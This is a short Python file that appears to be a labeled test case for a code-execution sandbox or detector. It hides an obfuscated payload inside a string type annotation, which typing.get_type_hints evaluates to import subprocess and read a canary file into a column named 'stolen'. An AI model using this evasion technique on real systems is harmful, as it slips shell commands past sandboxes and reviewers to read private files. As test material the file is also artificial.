# class: string_exec
# technique: typing.Optional['expr'] builds a ForwardRef that get_type_hints evaluates; the annotation itself is a subscript, not a string
# goal: exec
import typing

import pandas as pd

out = []
imp = "_" * 2 + "import" + "_" * 2


def column(x: typing.Optional["[out.append(eval(imp)('subprocess').getoutput('cat {{CANARY_FILE}}')), int][-1]"]):
    return x


typing.get_type_hints(column)
df = pd.DataFrame({"stolen": out})
